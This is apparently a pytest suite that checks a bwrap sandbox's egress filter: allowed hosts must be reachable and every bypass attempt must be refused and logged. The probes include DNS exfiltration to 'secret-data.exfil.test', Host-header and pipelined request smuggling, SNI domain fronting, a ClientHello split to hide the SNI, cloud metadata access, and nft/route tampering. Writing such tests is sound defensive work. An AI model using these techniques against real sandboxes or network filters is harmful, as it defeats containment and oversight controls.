"""Filtered egress against real bwrap sandboxes: what must work and what must fail, fast.

Servers run on the host's loopback; the sandbox reaches them only as allowed names pinned
with ``--add-host name=127.0.0.1``. Each denial must show up in the audit events.
"""

from __future__ import annotations

import pytest

from .conftest import Filtered, Recorder, py

pytestmark = [pytest.mark.bwrap, pytest.mark.userns, pytest.mark.netns]

WEB = ("web.test", "127.0.0.1")

_GET = """
import socket, sys
host, port, header = sys.argv[1], int(sys.argv[2]), sys.argv[3]
s = socket.create_connection((host, port), timeout=10)
s.sendall(f"GET /raw HTTP/1.1\\r\\nHost: {header}\\r\\nConnection: close\\r\\n\\r\\n".encode())
data = b""
try:
    while chunk := s.recv(65536):
        data += chunk
except OSError as exc:
    print("error", type(exc).__name__)
print(data.decode(errors="replace"))
"""


def test_allowed_name_via_proxy_env(filtered: Filtered, http_port: int) -> None:
    url = f"http://web.test:{http_port}/via-proxy"
    result = filtered(["curl", "-sS", "-m", "10", url], allow=["web.test"], add_hosts=[WEB])
    assert result.returncode == 0, result.describe()
    assert f"host=web.test:{http_port} path=/via-proxy" in result.stdout
    assert any(e["proto"] == "http" and e["host"] == "web.test" for e in result.net("allow"))


def test_allowed_name_transparently_without_proxy_env(filtered: Filtered, http_port: int) -> None:
    url = f"http://web.test:{http_port}/transparent"
    result = filtered(
        ["curl", "-sS", "-m", "10", url], allow=["web.test"], add_hosts=[WEB], proxy_env=False
    )
    assert result.returncode == 0, result.describe()
    assert "path=/transparent" in result.stdout
    allowed = [e for e in result.net("allow") if e["proto"] == "tcp"]
    assert allowed
    assert allowed[0]["bytes_in"] > 0
    assert allowed[0]["bytes_out"] > 0


def test_allowed_name_with_a_raw_socket(filtered: Filtered, http_port: int) -> None:
    command = [*py(_GET), "web.test", str(http_port), "web.test"]
    result = filtered(command, allow=[f"web.test:{http_port}"], add_hosts=[WEB])
    assert "path=/raw" in result.stdout, result.describe()


def test_ipv6_to_an_allowed_name_works(filtered: Filtered, http_port: int) -> None:
    source = (
        "import socket, sys\n"
        "addr = socket.getaddrinfo('web.test', int(sys.argv[1]), socket.AF_INET6)[0][4]\n"
        "s = socket.create_connection(addr[:2], timeout=10)\n"
        "s.sendall(b'GET /v6 HTTP/1.0\\r\\nHost: web.test\\r\\n\\r\\n')\n"
        "print(s.makefile('rb').read().decode())\n"
    )
    result = filtered([*py(source), str(http_port)], allow=["web.test"], add_hosts=[WEB])
    assert "path=/v6" in result.stdout, result.describe()


def test_denied_name_does_not_resolve_and_is_refused_by_the_proxy(
    filtered: Filtered, http_port: int
) -> None:
    source = (
        "import socket, subprocess, sys\n"
        "try:\n"
        "    socket.getaddrinfo('evil.test', 80)\n"
        "    print('resolved')\n"
        "except socket.gaierror as exc:\n"
        "    print('nxdomain', exc.errno)\n"
        "r = subprocess.run(['curl', '-sS', '-m', '10', '-o', '/dev/null', '-w', '%{http_code}',\n"
        "                    sys.argv[1]], capture_output=True, text=True)\n"
        "print('proxy', r.stdout)\n"
    )
    url = f"http://evil.test:{http_port}/"
    result = filtered([*py(source), url], allow=["web.test"], add_hosts=[WEB])
    assert "nxdomain" in result.stdout, result.describe()
    assert "proxy 403" in result.stdout, result.describe()
    assert result.denied("evil.test", None)
    assert result.denied("evil.test", http_port)
    assert any("--allow evil.test" in line for line in result.summary)


def test_add_host_alone_resolves_but_does_not_allow(filtered: Filtered, http_port: int) -> None:
    command = [*py(_GET), "web.test", str(http_port), "web.test"]
    result = filtered(command, add_hosts=[WEB], proxy_env=False)
    assert "hello" not in result.stdout, result.describe()
    assert result.denied("web.test", http_port)


def test_allowed_name_on_another_port_fails(filtered: Filtered, http_port: int) -> None:
    command = [*py(_GET), "web.test", str(http_port), "web.test"]
    result = filtered(command, allow=["web.test:1"], add_hosts=[WEB])
    assert "hello" not in result.stdout, result.describe()
    assert result.denied("web.test", http_port)
    assert any(e.get("reason") == "port not allowed" for e in result.net("deny"))


def test_deny_rule_wins_over_allow(filtered: Filtered, http_port: int) -> None:
    command = [*py(_GET), "web.test", str(http_port), "web.test"]
    result = filtered(command, allow=["*.test"], deny=["web.test"], add_hosts=[WEB])
    assert "hello" not in result.stdout, result.describe()
    assert result.denied("web.test")


_DIRECT = """
import socket, sys, time
for target in sys.argv[1:]:
    host, _, port = target.rpartition(":")
    started = time.monotonic()
    try:
        s = socket.create_connection((host.strip("[]"), int(port)), timeout=10)
        s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
        data = s.recv(100)
        outcome = "data" if data else "closed"
        if data.startswith(b"HTTP/1.1 403 Forbidden"):
            outcome = "refused"  # the proxy's answer (with the reason), not the server's
    except OSError as exc:
        outcome = type(exc).__name__
    print(target, outcome, round(time.monotonic() - started, 2))
"""


def test_direct_ips_public_private_metadata_and_ipv6_fail(filtered: Filtered) -> None:
    targets = [
        "93.184.216.34:80", "10.1.2.3:22", "192.168.1.1:80", "169.254.169.254:80",
        "172.17.0.1:2375", "[2001:db8::1]:443", "[fd00::1]:80", "[::ffff:10.0.0.1]:80",
    ]  # fmt: skip
    result = filtered([*py(_DIRECT), *targets], allow=["web.test"])
    lines = dict(line.split(" ", 1) for line in result.stdout.splitlines())
    assert set(lines) == set(targets), result.describe()
    for target in targets:
        outcome, seconds = lines[target].split()
        assert outcome != "data", result.describe()
        assert float(seconds) < 5, f"{target} took {seconds}s"
    for host in ("93.184.216.34", "10.1.2.3", "169.254.169.254", "2001:db8::1", "fd00::1"):
        assert result.denied(host), host


def test_broad_cidr_does_not_open_private_or_metadata(filtered: Filtered) -> None:
    targets = ["169.254.169.254:80", "10.0.0.1:80", "[fd00::1]:80"]
    result = filtered([*py(_DIRECT), *targets], allow=["0.0.0.0/0", "::/0"])
    for host in ("169.254.169.254", "10.0.0.1", "fd00::1"):
        assert any(
            e["host"] == host and e.get("reason") == "private or host-local address"
            for e in result.net("deny")
        ), result.describe()


def test_explicit_private_address_rule_is_honoured(filtered: Filtered) -> None:
    # 198.51.100.0/24 is not special, 10.99/16 is: an explicit CIDR inside it is honoured
    # (the proxy dials it; nothing listens there, so the attempt ends "unreachable")
    result = filtered([*py(_DIRECT), "10.99.1.1:9"], allow=["10.99.0.0/16:9"])
    events = [e for e in result.net() if e["host"] == "10.99.1.1"]
    assert events, result.describe()
    assert events[0]["decision"] == "allow", result.describe()
    assert events[0]["rule"] == "10.99.0.0/16:9"


_UDP_ICMP = """
import socket
out = []
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(2)
try:
    u.sendto(b"x", ("93.184.216.34", 9999))
    u.recvfrom(10)
    out.append("udp-reply")
except OSError as exc:
    out.append("udp-" + type(exc).__name__)
u6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
try:
    u6.sendto(b"x", ("2001:db8::1", 9999))
    out.append("udp6-sent")
except OSError as exc:
    out.append("udp6-" + type(exc).__name__)
for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
    try:
        s = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)
        s.sendto(b"\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00", ("93.184.216.34", 0))
        out.append("icmp-sent")
    except OSError as exc:
        out.append("icmp-" + type(exc).__name__)
print(" ".join(out))
"""


def test_udp_and_icmp_are_dropped(filtered: Filtered) -> None:
    result = filtered(py(_UDP_ICMP), allow=["0.0.0.0/0"])
    # the nft reject refuses the datagram at once (without it, sendto would succeed)
    assert result.stdout.split()[:2] == ["udp-PermissionError", "udp6-PermissionError"], (
        result.describe()
    )
    assert "icmp-sent" not in result.stdout, result.describe()


_DNS = """
import socket, struct, sys
def query(server, name, qtype=1):
    q = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\\0"
    q += struct.pack("!HH", qtype, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    s.sendto(q, (server, 53))
    data = s.recv(4096)
    rcode = data[3] & 0xF
    answers = struct.unpack_from("!H", data, 6)[0]
    return f"{name}@{server}:rcode={rcode}:answers={answers}"
for server in ("127.0.0.1", "8.8.8.8"):
    for name in ("web.test", "secret-data.exfil.test", "example.com"):
        try:
            print(query(server, name))
        except OSError as exc:
            print(f"{name}@{server}:{type(exc).__name__}")
"""


def test_dns_answers_only_allowed_names_and_never_forwards(filtered: Filtered) -> None:
    result = filtered(py(_DNS), allow=["web.test"])
    out = result.stdout
    assert "web.test@127.0.0.1:rcode=0:answers=1" in out, result.describe()
    # DNS sent to any other server is answered by the same responder, not forwarded
    assert "web.test@8.8.8.8:rcode=0:answers=1" in out, result.describe()
    for server in ("127.0.0.1", "8.8.8.8"):
        assert f"secret-data.exfil.test@{server}:rcode=3:answers=0" in out
        assert f"example.com@{server}:rcode=3:answers=0" in out
    assert result.denied("secret-data.exfil.test")


def test_connect_to_a_denied_host_through_the_proxy_fails(filtered: Filtered) -> None:
    source = (
        "import socket\n"
        "s = socket.create_connection(('127.0.0.1', 3128), timeout=10)\n"
        "s.sendall(b'CONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test:443\\r\\n\\r\\n')\n"
        "print(s.recv(200).split(b'\\r\\n')[0].decode())\n"
    )
    result = filtered(py(source), allow=["web.test"], add_hosts=[WEB])
    assert result.stdout.startswith("HTTP/1.1 403"), result.describe()
    assert result.denied("evil.test", 443)


def test_host_header_smuggling_is_refused(filtered: Filtered, recorder: Recorder) -> None:
    command = [*py(_GET), "web.test", str(recorder.port), "evil.test"]
    result = filtered(command, allow=["web.test"], add_hosts=[WEB], proxy_env=False)
    assert b"".join(recorder.received) == b"", "the smuggled request reached the server"
    assert any("does not match" in e.get("reason", "") for e in result.net("deny"))
    assert any("not fixable" in line for line in result.summary)


def test_absolute_uri_with_a_different_host_header_is_refused(
    filtered: Filtered, recorder: Recorder
) -> None:
    source = (
        "import socket, sys\n"
        "s = socket.create_connection(('127.0.0.1', 3128), timeout=10)\n"
        "s.sendall(f'GET http://web.test:{sys.argv[1]}/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'"
        ".encode())\n"
        "print(s.recv(200).split(b'\\r\\n')[0].decode())\n"
    )
    result = filtered([*py(source), str(recorder.port)], allow=["web.test"], add_hosts=[WEB])
    assert result.stdout.startswith("HTTP/1.1 403"), result.describe()
    assert recorder.connections == 0


_TLS = """
import socket, ssl, sys
host, port, sni, via_proxy = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4] == "1"
ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
if via_proxy:
    raw = socket.create_connection(("127.0.0.1", 3128), timeout=10)
    raw.sendall(f"CONNECT {host}:{port} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n".encode())
    print(raw.recv(100).split(b"\\r\\n")[0].decode())
else:
    raw = socket.create_connection((host, port), timeout=10)
try:
    with ctx.wrap_socket(raw, server_hostname=sni) as tls:
        print(tls.recv(100).decode().strip())
except (OSError, ssl.SSLError) as exc:
    print("tls-failed", type(exc).__name__)
"""


@pytest.mark.parametrize("via_proxy", ["0", "1"])
def test_tls_with_matching_sni_works(filtered: Filtered, tls_port: int, via_proxy: str) -> None:
    command = [*py(_TLS), "web.test", str(tls_port), "web.test", via_proxy]
    result = filtered(command, allow=["web.test"], add_hosts=[WEB])
    assert "sni=web.test" in result.stdout, result.describe()


@pytest.mark.parametrize("via_proxy", ["0", "1"])
def test_sni_mismatch_domain_fronting_is_refused(
    filtered: Filtered, recorder: Recorder, via_proxy: str
) -> None:
    command = [*py(_TLS), "web.test", str(recorder.port), "evil.test", via_proxy]
    result = filtered(command, allow=["web.test"], add_hosts=[WEB])
    assert "tls-failed" in result.stdout, result.describe()
    assert b"".join(recorder.received) == b"", "the ClientHello reached the server"
    assert any("SNI 'evil.test'" in e.get("reason", "") for e in result.net("deny"))


_SPLIT_HELLO = """
import socket, ssl, struct, sys
ctx = ssl.create_default_context()
incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
tls = ctx.wrap_bio(incoming, outgoing, server_hostname="evil.test")
try:
    tls.do_handshake()
except ssl.SSLWantReadError:
    pass
hello = outgoing.read()
body = hello[5:]
head = hello[:3]
split = head + struct.pack("!H", 40) + body[:40]
split += head + struct.pack("!H", len(body) - 40) + body[40:]
s = socket.create_connection(("web.test", int(sys.argv[1])), timeout=10)
s.sendall(split)
try:
    print("reply", s.recv(100))
except OSError as exc:
    print("refused", type(exc).__name__)
"""


def test_client_hello_split_to_hide_the_sni_is_refused(
    filtered: Filtered, recorder: Recorder
) -> None:
    command = [*py(_SPLIT_HELLO), str(recorder.port)]
    result = filtered(command, allow=["web.test"], add_hosts=[WEB], proxy_env=False)
    assert b"".join(recorder.received) == b"", "the split ClientHello reached the server"
    assert any("split across TLS records" in e.get("reason", "") for e in result.net("deny"))


def test_pipelined_request_cannot_smuggle_another_host(filtered: Filtered, http_port: int) -> None:
    source = (
        "import socket, sys\n"
        "s = socket.create_connection(('web.test', int(sys.argv[1])), timeout=10)\n"
        "s.sendall(b'GET /first HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n'\n"
        "          b'GET /second HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')\n"
        "print(s.makefile('rb').read().decode())\n"
    )
    result = filtered([*py(source), str(http_port)], allow=["web.test"], add_hosts=[WEB])
    assert "path=/first" in result.stdout, result.describe()
    assert "host=evil.test" not in result.stdout, result.describe()


def test_rules_and_routes_cannot_be_read_or_changed_from_inside(filtered: Filtered) -> None:
    script = (
        "nft list ruleset >/dev/null 2>&1 && echo nft-list-ok; "
        "nft flush ruleset 2>/dev/null && echo nft-flush-ok; "
        "ip route add 203.0.113.0/24 dev lo 2>/dev/null && echo route-add-ok; "
        "ip route del default 2>/dev/null && echo route-del-ok; "
        "ip link set sbx0 down 2>/dev/null && echo link-down-ok; "
        "ip addr add 10.9.9.9/32 dev lo 2>/dev/null && echo addr-ok; "
        "echo done"
    )
    result = filtered(["sh", "-c", script], allow=["web.test"])
    assert result.stdout.strip() == "done", result.describe()
